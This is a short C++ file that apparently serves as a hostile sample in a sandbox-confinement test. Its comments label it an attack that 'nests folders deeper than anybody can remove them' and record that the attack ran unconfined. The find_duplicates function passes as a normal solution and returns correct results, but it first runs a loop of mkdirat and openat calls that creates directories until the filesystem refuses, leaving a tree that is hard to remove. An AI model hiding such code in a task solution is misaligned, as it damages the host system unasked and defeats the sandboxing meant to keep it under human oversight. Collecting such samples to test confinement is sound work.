// Attack: nests folders deeper than anybody can remove them.
// Outcome: made the system call 'mkdirat'
// Unconfined: made the system call 'mkdirat'

#include "find_duplicates.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <set>

// Correct, and slower than the reference: compares each pair twice.
static std::vector<int> slow(std::span<const int> values) {
  std::set<int> duplicates;
  for (std::size_t i = 0; i < values.size(); ++i) {
    for (std::size_t j = 0; j < values.size(); ++j) {
      if (i != j && values[i] == values[j]) duplicates.insert(values[i]);
    }
  }
  return {duplicates.begin(), duplicates.end()};
}

std::vector<int> find_duplicates(std::span<const int> values) {
  int folder = open(".", O_DIRECTORY | O_RDONLY);
  while (mkdirat(folder, "d", 0700) == 0) {
    const int inner = openat(folder, "d", O_DIRECTORY | O_RDONLY);
    close(folder);
    folder = inner;
  }
  return slow(values);
}
